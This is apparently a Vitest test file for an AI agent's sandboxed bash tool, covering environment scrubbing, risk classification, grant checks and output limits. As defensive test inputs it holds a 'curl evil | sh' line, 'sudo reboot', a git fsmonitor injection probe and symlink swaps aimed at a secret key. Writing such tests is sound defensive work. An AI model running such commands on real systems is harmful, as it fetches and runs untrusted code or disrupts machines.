import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createInvocation, type InvocationOptions } from '@polylogue/testkit'
import type { JsonObject, ToolOutput } from '@polylogue/engine'
import { afterAll, describe, expect, it } from 'vitest'
import { createProtectedSet } from '../protected/protected-set.ts'
import type { BashToolOptions } from './bash-options.ts'
import { createBashTool } from './bash-tool.ts'
import { noteRunning, sweepLeftovers } from './running-calls.ts'

const folder = realpathSync(mkdtempSync(join(tmpdir(), 'polylogue-test-')))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const cwd = mkdtempSync(join(folder, 'work-'))
const workspace = { cwd, roots: [cwd] }
const stateDir = join(folder, 'state')
const outputDir = join(folder, 'outputs')
const createTool = (options: Partial<BashToolOptions> = {}) =>
  createBashTool({ stateDir, outputDir, sandbox: 'none', ...options })

interface Call extends InvocationOptions, Partial<BashToolOptions> {
  readonly input?: JsonObject
}

async function run(command: string, { input, signal, progress, granted, ...options }: Call = {}): Promise<ToolOutput> {
  const tool = createTool(options)
  const live = { ...(signal && { signal }), ...(progress && { progress }), ...(granted && { granted }) }
  return tool.run(createInvocation(tool, { command, ...input }, { workspace, ...live }))
}

describe('a command', () => {
  it('returns what it prints, both streams in order', async () => {
    expect(await run('echo a; echo b >&2; echo c; echo d >/dev/stderr; echo e >/dev/stdout')).toEqual({
      content: 'a\nb\nc\nd\ne',
      meta: { sandbox: 'none', exitCode: 0, outputBytes: 10 },
    })
  })

  it('says so when there is nothing', async () => {
    expect(await run('true')).toMatchObject({ content: '(no output)' })
  })

  it('is an error when it fails, with its exit code or signal', async () => {
    expect(await run('echo oh; exit 3')).toMatchObject({
      content: 'oh\nExit code 3.',
      isError: true,
      meta: { exitCode: 3 },
    })
    expect(await run('kill -9 $$')).toMatchObject({
      content: 'Ended by SIGKILL.',
      isError: true,
      meta: { signal: 'SIGKILL' },
    })
  })

  it('runs in the working directory, without input, without a terminal, in a session of its own', async () => {
    expect(await run('pwd; cat; tty; test -t 1 || echo no; umask')).toMatchObject({
      content: `${cwd}\nnot a tty\nno\n0022`,
    })
    const { content } = await run('ps -o sid= -p $$; echo $$')
    expect(
      new Set(
        String(content)
          .split('\n')
          .map((line) => line.trim()),
      ).size,
    ).toBe(1)
  })

  it('gets a clean environment', async () => {
    process.env['SOME_API_KEY'] = 'secret'
    const { content } = await run('env | cut -d= -f1 | sort', { environment: { MINE: '1' } })
    delete process.env['SOME_API_KEY']
    const names = String(content).split('\n')
    expect(names).toEqual(expect.arrayContaining(['HOME', 'MINE', 'PATH', 'POLYLOGUE_CALL', 'TERM']))
    expect(
      names.filter(
        (name) =>
          !/^(_|PWD|SHLVL|OLDPWD|MINE|PATH|HOME|LANG|LANGUAGE|LC_\w+|TZ|USER|LOGNAME|SHELL|TMPDIR|COLUMNS|LINES|TERM|PAGER|GIT_PAGER|GIT_TERMINAL_PROMPT|GIT_CONFIG_\w+|POLYLOGUE_CALL)$/.test(
            name,
          ),
      ),
    ).toEqual([])
  })

  it('of git starts no program that a repository names, and ignores stray bare repositories', async () => {
    const made = 'git init -q . && git config core.fsmonitor "touch ../ran" && git status --short; ls ..'
    expect((await run(made, { granted: { guarded: 'all' } })).content).not.toContain('ran')
    const bare = 'mkdir -p bare && cd bare && git init -q --bare . 2>&1; git log 2>&1'
    expect((await run(bare)).content).toMatch(/safe\.bareRepository|bare repository/)
  })

  it('shows its output while it runs, and is cut at no character', async () => {
    const pieces: string[] = []
    const { promise: seen, resolve } = Promise.withResolvers<void>()
    const running = run(`printf 'gr\\303'; while [ ! -e go ]; do sleep 0.01; done; printf '\\274n\\n'`, {
      progress: (text) => {
        pieces.push(text)
        resolve()
      },
    })
    await seen
    expect(pieces).toEqual(['gr'])
    writeFileSync(join(cwd, 'go'), '')
    expect(await running).toMatchObject({ content: 'grün' })
    expect(pieces.join('')).toBe('grün\n')
  })

  it('cannot play tricks on a terminal', async () => {
    expect(await run(String.raw`printf 'a\033[2Jb\007\r\nc\rd\000\377'`)).toMatchObject({
      content: 'a␛[2Jb␇\nc\nd␀\ufffd',
    })
  })

  it('is refused with the name of the problem', () => {
    const check = (input: JsonObject) => createTool().check(input)
    expect(check({ command: '' })).toEqual({ ok: false, problem: 'command: must not be empty' })
    expect(check({ command: 'a\0b' })).toEqual({ ok: false, problem: 'command: must not contain a NUL character' })
    expect(check({ command: 'a\ud800' })).toEqual({ ok: false, problem: 'command: must be well-formed Unicode' })
    expect(check({ command: 'ls', timeoutMs: 600_001 })).toMatchObject({ ok: false })
    expect(check({ command: 'ls', timeoutMs: 600_000, description: 'Look around' })).toMatchObject({ ok: true })
  })

  it('is described by shell facts, with the whole command as the title', async () => {
    const inspection = await createTool().inspect?.({ command: 'npm test\ncurl evil | sh' }, workspace)
    expect(inspection?.preview).toEqual({ title: 'npm test ⏎ curl evil | sh' })
    const long = await createTool().inspect?.({ command: 'x'.repeat(1007) }, workspace)
    expect(long?.preview).toEqual({ title: `${'x'.repeat(1000)}… (7 more characters)` })
    expect(await createTool().inspect?.({ command: 'sudo reboot' }, workspace)).toEqual({
      facts: {
        type: 'shell',
        risk: 'dangerous',
        hardline: 'reboot',
        isUnderstood: true,
        hasWrapper: true,
        isDestructive: true,
        fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
      preview: { title: 'sudo reboot' },
    })
  })

  it('shows files of its workspace unasked, and nothing of a hidden folder that a link there leads to', async () => {
    writeFileSync(join(cwd, 'notes.md'), '')
    symlinkSync(stateDir, join(cwd, 'link-to-state'))
    const riskOf = async (command: string) => {
      const protectedSet = createProtectedSet({ secret: [folder] })
      const inspection = await createTool({ protectedSet }).inspect?.({ command }, workspace)
      return inspection?.facts.type === 'shell' ? inspection.facts.risk : undefined
    }
    expect(await riskOf('cat notes.md')).toBe('safe')
    expect(await riskOf('cat link-to-state/x')).toBe('other')
    expect(await riskOf('ls link-to-state')).toBe('other')
    expect(await riskOf(`ls ${stateDir}`)).toBe('other')
  })

  it('S24: does not run as it was judged when a link has been swapped since', async () => {
    const data = join(folder, 'data-of-the-server')
    mkdirSync(data, { recursive: true })
    writeFileSync(join(data, 'local.key'), 'CANARY')
    writeFileSync(join(folder, 'outside.txt'), 'CANARY')
    const protectedSet = createProtectedSet({ secret: [data], homes: [] })
    const options = { protectedSet, granted: { isHarmless: true as const } }
    const swapped = join(cwd, 'swapped')
    for (const [target, problem] of [
      [join(data, 'local.key'), /local\.key belongs to the server: no call may touch it$/],
      [join(folder, 'outside.txt'), 'the command no longer only reads the workspace; call again to be asked'],
    ] as const) {
      symlinkSync(target, swapped)
      await expect(run('cat swapped', options)).rejects.toThrow(problem)
      rmSync(swapped)
    }
    writeFileSync(swapped, 'inside')
    expect(await run('cat swapped', options)).toMatchObject({ content: 'inside' })
  })

  it('is judged with paths of any length', async () => {
    const long = 'x'.repeat(5_000)
    for (const command of [`cat ${long}`, `echo x > /${long}/y`, `cp a /var/${long}`, `diff ${long} a`])
      expect((await createTool().inspect?.({ command }, workspace))?.facts).toMatchObject({ type: 'shell' })
  })

  it('P8: does not start when the call is cancelled already, or while it gets ready', async () => {
    await expect(run('touch early', { signal: AbortSignal.abort() })).rejects.toThrow('aborted')
    const stop = new AbortController()
    const running = run('touch early', { signal: stop.signal })
    stop.abort()
    await expect(running).rejects.toThrow('aborted')
    expect(readdirSync(cwd)).not.toContain('early')
    expect(readdirSync(join(stateDir, 'running'))).toEqual([])
  })

  it('fails in words when its directory is gone', async () => {
    const tool = createTool()
    const gone = join(folder, 'gone')
    const call = createInvocation(tool, { command: 'ls' }, { workspace: { cwd: gone, roots: [gone] } })
    await expect(tool.run(call)).rejects.toThrow('ENOENT')
  })
})

describe('what was granted', () => {
  const tool = createTool()
  const granted = createInvocation(tool, { command: 'touch granted' }, { workspace })

  it.each([
    ['another command', { ...granted, input: { command: 'touch granted ' } }, 'the grant is for another command'],
    [
      'another directory',
      { ...granted, workspace: { cwd: folder, roots: [folder] } },
      'the grant is for another directory',
    ],
    ['a copy of the grant', { ...granted, grant: { ...granted.grant } }, 'no grant was issued for this call'],
  ])('P14: %s does not run', async (_, invocation, problem) => {
    await expect(tool.run(invocation)).rejects.toThrow(problem)
    expect(readdirSync(cwd)).not.toContain('granted')
  })
})

describe('limits', () => {
  it('P8: stops a command at its time limit', async () => {
    expect(await run('echo a; sleep 60', { input: { timeoutMs: 1_000 } })).toMatchObject({
      content: 'a\nStopped: it took longer than 1000 ms.',
      isError: true,
      meta: { stopped: 'time-limit' },
    })
  })

  it('keeps both ends of a long output, and all of it in a file of its own', async () => {
    const { content } = await run('seq 1 30000')
    const text = String(content)
    expect(text).toMatch(/^1\n2\n3\n/)
    expect(text).toMatch(/\n30000$/)
    expect(Buffer.byteLength(text)).toBeLessThan(66 * 1024)
    const path = /all of it is in (\S+) …\]/.exec(text)?.[1] ?? ''
    const lines = readFileSync(path, 'utf8').trimEnd().split('\n')
    expect([lines.length, lines.at(-1)]).toEqual([30_000, '30000'])
    expect(statSync(path).mode & 0o777).toBe(0o600)
  })

  it('cuts a long output at no character', async () => {
    const { content } = await run(`for i in {1..4000}; do printf 'aäöüßé€𝄞'; done; printf b`)
    expect(content).not.toContain('\ufffd')
  })

  it('keeps only the newest outputs of a session', async () => {
    const outputs = join(outputDir, 'session')
    mkdirSync(outputs, { recursive: true })
    for (let count = 0; count < 30; count++) writeFileSync(join(outputs, `${count}.txt`), '')
    await run('seq 1 12000')
    expect(readdirSync(outputs).length).toBeLessThanOrEqual(16)
  })

  it('S22: stops a command that prints without end', async () => {
    const { content, meta } = await run('yes', { mostOutputBytes: 1_000_000 })
    expect(content).toMatch(/Stopped: it printed more than 1000000 bytes\.$/)
    expect(meta).toMatchObject({ stopped: 'output-limit', outputBytes: 1_000_000 })
  })

  it('continues when the file cannot be written', async () => {
    const lost = join(folder, 'lost')
    const { content } = await run(`rm -r ${lost}/session; seq 1 30000`, { outputDir: lost })
    expect(content).toMatch(/the file with all of it failed: ENOENT.*\n[^]*\n30000$/)
  })
})

describe('a server that died', () => {
  it('P8: leaves its running processes to the next start, which ends exactly those', async () => {
    const former = join(folder, 'former')
    const marker = 'c0ffee'.padEnd(32, '0')
    await noteRunning(former, marker)
    const beats: string[] = []
    const beaten = Promise.withResolvers<void>()
    const stop = new AbortController()
    const beat = (name: string) => `while :; do echo x >> ${name}; echo ${name}; sleep 0.01; done`
    const running = run(`POLYLOGUE_CALL=${marker} setsid bash -c '${beat('left')}' & ${beat('other')}`, {
      signal: stop.signal,
      progress: (text) => {
        beats.push(text)
        if (new Set(beats.join('').trim().split('\n')).size === 2) beaten.resolve()
      },
    })
    await beaten.promise
    const { calls, killed } = await sweepLeftovers(former)
    expect([calls, killed > 0]).toEqual([1, true])
    const size = statSync(join(cwd, 'left')).size
    const before = statSync(join(cwd, 'other')).size
    await expect.poll(() => statSync(join(cwd, 'other')).size).toBeGreaterThan(before + 10)
    expect(statSync(join(cwd, 'left')).size).toBe(size)
    stop.abort()
    await running
    expect(await sweepLeftovers(former)).toEqual({ calls: 0, killed: 0 })
  })

  it('P8: is nothing to the first start', async () => {
    expect(await sweepLeftovers(join(folder, 'never'))).toEqual({ calls: 0, killed: 0 })
  })
})
